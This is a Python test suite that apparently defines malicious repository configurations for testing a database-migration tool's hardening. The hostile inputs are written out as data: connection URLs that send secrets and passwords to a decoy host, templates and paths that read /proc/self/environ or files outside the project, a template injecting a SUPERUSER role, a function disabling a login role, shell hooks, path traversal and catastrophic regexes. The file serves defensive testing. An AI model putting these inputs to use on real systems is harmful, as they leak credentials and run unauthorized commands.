"""The configuration of a repository: variables, hosts, templates, hooks, paths.

A variable may go to a local server. 0.0.0.0 leads to the decoy, but is no address of this machine by its name.
"""
import os

from attack import Attack, Run, script

TABLE = 'table { name: "t" column { name: "id" type: "integer" } }\n'
HAND_WRITTEN = 'table { name: "t" column { name: "id" type: "int" default: "1+1" } }\n'  # needs a scratch database
SCRIPT = script("CREATE TABLE public.x (a int);")
NO_URL = {"DATABASE_URL": None}


def configured(name, tries, text, runs=None, models=TABLE, more_files=None, **more):
    files = {"autogen.txtpb": text, "models/m.txtpb": models}
    files.update(more_files or {})
    return Attack(name, tries, runs or [Run("check"), Run("-m x --no-input")], files, **more)


def only_header(trial):
    """No new script holds a statement that the template added."""
    for name in os.listdir(trial.project + "/versions"):
        with open(trial.project + "/versions/" + name, errors="replace") as file:
            if "autogen_attack" in file.read():
                return "a statement of the template's stands in " + name
    return ""


ATTACKS = [
    configured("url-variable", "url sends a variable to a host of the repository's choice",
               'url: "postgresql://${CANARY_SECRET}@0.0.0.0:@PORT@/${CANARY_SECRET}"\n',
               [Run("check", environment=NO_URL), Run("current", environment=NO_URL)]),
    configured("url-variable-list", "the same as libpq keywords, to the second host of a list",
               'url: "host=localhost,0.0.0.0 port=1,@PORT@ user=u password=${CANARY_SECRET} dbname=x"\n', [Run("check", environment=NO_URL)]),
    configured("url-password", "the person's PGPASSWORD goes to a host of the repository's choice",
               'url: "postgresql://u@0.0.0.0:@PORT@/x"\n',
               [Run("check", environment={"DATABASE_URL": None, "PGPASSWORD": "@PASSWORD@"})], may_connect=True),
    configured("url-passfile", "url names a file outside as the password file",
               'url: "host=127.0.0.1 port=@PORT@ user=u dbname=x passfile=@SECRET@ sslkey=@SECRET@ '
               'sslrootcert=@SECRET@"\n',
               [Run("check", environment=NO_URL)], may_connect=True),
    configured("url-service", "url names a service file outside", 'url: "service=x servicefile=@SECRET@"\n',
               [Run("check", environment=NO_URL)]),
    configured("scratch-url", "scratch_url in the repository: a variable to another host",
               'scratch_url: "postgresql://u:${CANARY_SECRET}@0.0.0.0:@PORT@/${CANARY_SECRET}"\n', models=HAND_WRITTEN),
    configured("scratch-url-victim", "scratch_url in the repository names a server in use, as its superuser",
               'scratch_url: "host=@SOCKET@ port=5432 user=postgres dbname=production"\n',
               models='function { name: "evil" returns: "integer" language: "plpgsql" body: "BEGIN ALTER ROLE '
                   'canary_login NOLOGIN; RETURN 1; END" }\n'
               'materialized_view { name: "v" definition: "SELECT public.evil() AS x" }\n',
               armed="ALTER ROLE canary_login NOLOGIN;"),
    configured("template-outside", "a template outside the project: its content must not appear",
        'template: "@SECRET@"\n'),
    configured("template-link", "a template that is a link to a file outside", 'template: "t.mustache"\n',
        links={"t.mustache": "@SECRET@"}),
    configured("template-partial", "a template with partials and sections that read files",
        'template: "t.mustache"\n',
               more_files={"t.mustache": "-- {{{message}}}\n{{> @SECRET@}}{{> "
                   "/proc/self/environ}}\n{{#@SECRET@}}x{{/@SECRET@}}\n-- revision:   {{{revision}}}\n"
                           "-- revises:    {{{revises}}}\n-- created:    {{{created}}}\n\n-- autogen: "
                           "upgrade\n\n{{{upgrade}}}\n-- autogen: downgrade\n\n{{{downgrade}}}\n"}),
    configured("template-statement", "a template that adds a statement to each script", 'template: "t.mustache"\n',
               more_files={"t.mustache": "-- {{{message}}}\n--\n-- revision:   {{{revision}}}\n-- revises:    "
                   "{{{revises}}}\n-- created:    {{{created}}}\n\n"
                           "-- autogen: upgrade\n\nCREATE ROLE autogen_attack SUPERUSER;\n{{{upgrade}}}\n-- autogen: "
                           "downgrade\n\n{{{downgrade}}}\n"},
               runs=[Run("-m x --no-input")], check=only_header),
    configured("template-environment", "a template that is /proc/self/environ", 'template: "/proc/self/environ"\n'),
    configured("hook", "post_write_hook runs a program without a flag of the person's",
               'post_write_hook { name: "hook" argument: "touch" argument: "@OUTSIDE@/hook" }\n'),
    configured("hook-shell", "post_write_hook runs a file of the repository",
        'post_write_hook { name: "hook" argument: "./hook" argument: "{}" }\n',
               more_files={"hook": "#!/bin/sh\ntouch @OUTSIDE@/hook\n"}),
    configured("metrics-outside", "metrics_file outside the project", 'apply { metrics_file: '
        '"../../outside/kept.txt" }\n',
               [Run("upgrade --dry-run"), Run("upgrade --sql base:head")], more_files={"versions/1_x.sql": SCRIPT}),
    configured("approvals-outside", "approvals outside the project: a file is overwritten",
               'apply { require_approval: "data-loss" approvals: "../../outside/kept.txt" }\n',
               [Run("approve head --hazard data-loss --by me --reason x"), Run("lint")],
               more_files={"versions/1_x.sql": script("DROP TABLE canary.rows;")}),
    configured("versions-outside", "a folder of scripts outside the project", 'versions: "../../outside/folder"\n',
               [Run("-m x --no-input"), Run("revision -m x"), Run("sum")]),
    configured("versions-proc", "a folder of scripts that is /proc/self", 'versions: "/proc/self/"\n',
               [Run("history"), Run("lint"), Run("verify")]),
    configured("file-template", "file_template with .. and slashes", 'file_template: '
        '"../../../outside/%(rev)_%(slug)"\n',
               [Run("-m x --no-input"), Run("revision -m x"), Run("revision -m '../../../../outside/x'"),
                Run("revision -m x --rev-id ../../../outside/x")]),
    configured("patterns", "patterns that take for ever", 'include_schema: "(((((a*)*)*)*)*)*b"\nexclude_schema: '
        '"(x+x+)+y"\n'),
    configured("sizes", "numbers that are too large", 'slug_length: 4294967295\napply { lock_timeout_ms: 4294967295 '
        'retries: 4294967295 lock_wait_s: 4294967295 }\n',
               [Run("-m x --no-input"), Run("upgrade --sql base:head")]),
    Attack("foreign-configuration", "a configuration of another user's in a folder above, with a hook",
           [Run("-m x --no-input --model models --versions versions"),
            Run("revision -m x --versions versions")], {"models/m.txtpb": TABLE}),
]
